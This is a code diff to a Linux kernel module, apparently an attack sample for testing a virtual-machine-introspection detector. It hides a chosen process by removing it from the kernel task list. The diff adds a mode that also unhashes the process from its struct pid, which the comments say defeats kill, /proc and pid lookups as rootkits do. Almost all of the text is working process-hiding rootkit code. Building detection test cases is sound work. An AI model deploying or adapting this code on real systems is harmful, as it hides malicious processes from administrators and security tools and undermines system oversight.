@@ -9,6 +9,13 @@
  * (tasklist=0x...). After unlinking, once RCU readers are done, the
  * node points at itself, so the task's own exit (__unhash_process())
  * unlinks it harmlessly. Unloading puts the task back if it still lives.
+ *
+ * mode=idr also takes the task off its struct pid (the pid namespace's
+ * IDR entry): pid_links[PIDTYPE_PID] is unhashed from pid->tasks, as
+ * rootkits do to defeat pid lookups (kill, /proc/PID, find_vpid() all
+ * stop finding it) while the task keeps running. The node is then made
+ * to point at itself (next NULL, pprev at its own next) so that
+ * detach_pid() at exit unhashes it harmlessly; unloading hashes it back.
  */
 #define pr_fmt(fmt) KBUILD_MODNAME ": " fmt
 
@@ -22,6 +29,7 @@
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
 #include <linux/spinlock.h>
+#include <linux/string.h>
 
 static int pid;
 module_param(pid, int, 0444);
@@ -31,24 +39,33 @@ static unsigned long tasklist;
 module_param(tasklist, ulong, 0444);
 MODULE_PARM_DESC(tasklist, "address of tasklist_lock (from /proc/kallsyms)");
 
+static char *mode = "list";
+module_param(mode, charp, 0444);
+MODULE_PARM_DESC(mode, "list: off the task list; idr: also off its struct pid");
+
 static struct task_struct *victim;
+static struct pid *victim_pid;
 
 static int __init vmiaas_attack_hideproc_init(void)
 {
 	rwlock_t *lock = (rwlock_t *)tasklist;
 	struct pid *p;
 
-	if (pid <= 1 || !tasklist)
+	if (pid <= 1 || !tasklist ||
+	    (strcmp(mode, "list") && strcmp(mode, "idr")))
 		return -EINVAL;
 	p = find_get_pid(pid);
 	victim = p ? get_pid_task(p, PIDTYPE_PID) : NULL;
-	put_pid(p);
-	if (!victim)
+	if (!victim) {
+		put_pid(p);
 		return -ESRCH;
+	}
 	if (!thread_group_leader(victim)) {
 		put_task_struct(victim);
+		put_pid(p);
 		return -EINVAL;
 	}
+	victim_pid = p;		/* the reference is kept until unload */
 	write_lock_irq(lock);
 	list_del_rcu(&victim->tasks);
 	write_unlock_irq(lock);
@@ -57,6 +74,19 @@ static int __init vmiaas_attack_hideproc_init(void)
 	INIT_LIST_HEAD(&victim->tasks);
 	write_unlock_irq(lock);
 	pr_info("pid %d (%s) unlinked from the task list\n", pid, victim->comm);
+	if (!strcmp(mode, "idr")) {
+		write_lock_irq(lock);
+		hlist_del_rcu(&victim->pid_links[PIDTYPE_PID]);
+		write_unlock_irq(lock);
+		synchronize_rcu();
+		write_lock_irq(lock);
+		victim->pid_links[PIDTYPE_PID].next = NULL;
+		victim->pid_links[PIDTYPE_PID].pprev =
+			&victim->pid_links[PIDTYPE_PID].next;
+		write_unlock_irq(lock);
+		pr_info("pid %d (%s) unlinked from its struct pid\n", pid,
+			victim->comm);
+	}
 	return 0;
 }
 
@@ -64,11 +94,18 @@ static void __exit vmiaas_attack_hideproc_exit(void)
 {
 	rwlock_t *lock = (rwlock_t *)tasklist;
 
+	struct hlist_node *link = &victim->pid_links[PIDTYPE_PID];
+
 	write_lock_irq(lock);
 	if (pid_alive(victim) && list_empty(&victim->tasks))
 		list_add_tail_rcu(&victim->tasks, &init_task.tasks);
+	/* Hashed back only while it still points at itself and lives. */
+	if (pid_alive(victim) && link->pprev == &link->next &&
+	    task_pid(victim) == victim_pid)
+		hlist_add_head_rcu(link, &victim_pid->tasks[PIDTYPE_PID]);
 	write_unlock_irq(lock);
 	put_task_struct(victim);
+	put_pid(victim_pid);
 }
 
 module_init(vmiaas_attack_hideproc_init);
